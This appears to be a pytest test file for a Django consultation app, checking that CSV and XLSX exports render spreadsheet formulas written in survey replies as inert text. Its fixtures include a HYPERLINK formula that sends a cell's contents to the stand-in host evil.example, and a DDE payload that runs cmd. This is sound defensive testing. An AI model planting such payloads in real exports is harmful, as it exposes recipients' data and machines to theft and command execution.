"""Exports never carry a live formula: what a State wrote is read back as text
from CSV (after an apostrophe) and XLSX (a text cell), numbers stay numbers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from migdev.consultation.analysis import exports, services, tallies
from migdev.consultation.questionnaires.models import Question
from tests.consultation.analysis.conftest import recipient_of, reply
from tests.consultation.factories import make_campaign, six

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A3,"x")'
FORMULAS = {
    "FRA": HYPERLINK,
    "MEX": "+1+1",
    "EGY": "-2+3",
    "CHN": "@SUM(A1)",
}


@pytest.fixture
def campaign(secretariat):
    campaign = make_campaign(recipients=(*FORMULAS, "DEU"))
    questionnaire = campaign.questionnaire
    Question.objects.create(
        questionnaire=questionnaire,
        name="meetings",
        order=10,
        type=Question.Type.INTEGER,
        label=six("How many meetings?"),
    )
    Question.objects.create(
        questionnaire=questionnaire,
        name="share",
        order=11,
        type=Question.Type.DECIMAL,
        label=six("=Share of the budget"),
    )
    for iso3, text in FORMULAS.items():
        reply(
            recipient_of(campaign, iso3),
            {"forum_view": text, "meetings": -2, "share": 2.5},
        )
    reply(recipient_of(campaign, "DEU"), {"forum_view": "-2", "meetings": 12})
    question = questionnaire.questions.get(name="forum_view")
    theme = services.theme_create(
        actor=secretariat,
        question=question,
        code="formula",
        label=six("@Looks like a formula"),
    )
    services.coding_set(
        actor=secretariat,
        recipient=recipient_of(campaign, "FRA"),
        question=question,
        themes=[theme],
        quotes={"formula": HYPERLINK},
    )
    questionnaire.questions.filter(name="level").update(label=six("-Level-"))
    campaign.title = six("=cmd|' /C calc'!A0")
    campaign.save()
    return campaign


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-2", "-2"),
        ("+3,5", "+3,5"),
        ("-0.25", "-0.25"),
        ("- a list item", "'- a list item"),
        ("Plain text = fine", "Plain text = fine"),
        ("", ""),
        (-2, -2),
        (None, None),
    ],
)
def test_neutralize(value, expected):
    assert exports.neutralize(value) == expected


def test_replies_csv_writes_formulas_as_text(client, campaign, secretariat):
    client.force_login(secretariat)
    url = reverse("analysis:replies-csv", kwargs={"pk": campaign.pk})
    rows = read_csv(client.get(url).content)
    column = rows[0].index("How does your Government view the Global Forum?")
    answers = {row[1]: row[column] for row in rows[1:]}
    assert answers == {
        "FRA": "'" + HYPERLINK,
        "MEX": "'+1+1",
        "EGY": "'-2+3",
        "CHN": "'@SUM(A1)",
        "DEU": "-2",
    }
    assert "'=Share of the budget" in rows[0]
    meetings = rows[0].index("How many meetings?")
    assert {row[1]: row[meetings] for row in rows[1:]}["FRA"] == "-2"


def test_replies_xlsx_writes_formulas_as_text(client, campaign, secretariat):
    client.force_login(secretariat)
    url = reverse("analysis:replies-xlsx", kwargs={"pk": campaign.pk})
    book = openpyxl.load_workbook(io.BytesIO(client.get(url).content))
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    column = header.index("How does your Government view the Global Forum?") + 1
    meetings = header.index("How many meetings?") + 1
    share = header.index("=Share of the budget") + 1
    assert sheet.cell(row=1, column=share).data_type == "s"
    cells = {
        sheet.cell(row=r, column=2).value: sheet.cell(row=r, column=column)
        for r in range(3, sheet.max_row + 1)
    }
    assert {iso3: cell.value for iso3, cell in cells.items()} == {
        **FORMULAS,
        "DEU": "-2",
    }
    assert {cell.data_type for cell in cells.values()} == {"s"}
    numbers = {
        sheet.cell(row=r, column=2).value: (
            sheet.cell(row=r, column=meetings),
            sheet.cell(row=r, column=share),
        )
        for r in range(3, sheet.max_row + 1)
    }
    count, fraction = numbers["FRA"]
    assert (count.value, count.data_type) == (-2, "n")
    assert (fraction.value, fraction.data_type) == (2.5, "n")
    assert numbers["DEU"][0].value == 12
    assert numbers["DEU"][1].value is None
    about = book.worksheets[-1]
    title = next(c for c in about["B"] if c.value == "=cmd|' /C calc'!A0")
    assert title.data_type == "s"
    for ws in book.worksheets:
        for row in ws.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


def test_tally_exports_write_formulas_as_text(campaign):
    result = tallies.tally(campaign, language="en")
    rows = read_csv(exports.tally_csv(result))
    (theme,) = [r for r in rows if r[2] == "theme"]
    assert theme[4] == "'@Looks like a formula"
    assert theme[14] == "France: " + HYPERLINK
    assert {r[1] for r in rows if r[0] == "level"} == {"'-Level-"}
    book = openpyxl.load_workbook(io.BytesIO(exports.tally_xlsx(result)))
    sheet = book["forum_view"]
    assert sheet["A5"].value == "@Looks like a formula"
    assert sheet["A5"].data_type == "s"
    assert sheet["H5"].value == "France: " + HYPERLINK
    assert book["level"]["A1"].value == "-Level-"
    assert book["level"]["A1"].data_type == "s"
    for ws in book.worksheets:
        for row in ws.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


def test_public_tally_csv_writes_labels_as_text(client, campaign):
    campaign.published_at = timezone.now()
    campaign.save()
    url = reverse("analysis:tally-csv", kwargs={"pk": campaign.pk})
    rows = read_csv(client.get(url).content)
    assert [r[4] for r in rows if r[2] == "theme"] == ["'@Looks like a formula"]


def test_control_characters_do_not_break_the_xlsx(client, campaign, secretariat):
    reply(recipient_of(campaign, "DEU"), {"forum_view": "page\x0cbreak\x01"})
    client.force_login(secretariat)
    response = client.get(reverse("analysis:replies-xlsx", kwargs={"pk": campaign.pk}))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    rows = {row[1]: row for row in sheet.iter_rows(min_row=3, values_only=True)}
    assert "page\ufffdbreak\ufffd" in rows["DEU"]
    csv_url = reverse("analysis:replies-csv", kwargs={"pk": campaign.pk})
    assert "page\x0cbreak\x01" in client.get(csv_url).content.decode("utf-8-sig")
